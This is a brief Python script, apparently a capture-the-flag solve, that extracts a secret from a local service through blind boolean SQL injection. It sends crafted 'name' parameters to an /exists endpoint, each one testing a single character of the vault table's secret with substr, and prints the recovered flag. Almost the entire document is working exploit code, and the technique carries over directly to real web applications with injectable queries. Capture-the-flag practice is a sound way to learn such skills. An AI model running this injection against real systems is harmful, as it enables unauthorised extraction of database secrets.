import json, re, urllib.parse, urllib.request
BASE = 'http://127.0.0.1:8191'
def get(path, data=None, headers=None):
    req = urllib.request.Request(BASE + path, data=data, headers=headers or {})
    try:
        return urllib.request.urlopen(req, timeout=10).read().decode()
    except urllib.error.HTTPError as exc:
        return exc.read().decode()
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

alphabet = "0123456789abcdef{}detn"
known = "detente{"
while not known.endswith("}"):
    for ch in alphabet:
        probe = f"alice' AND substr((SELECT secret FROM vault), {len(known) + 1}, 1) = '{ch}' --"
        if get("/exists?name=" + urllib.parse.quote(probe)) == "yes":
            known += ch
            break
    else:
        raise SystemExit("stuck at " + known)
print(known)
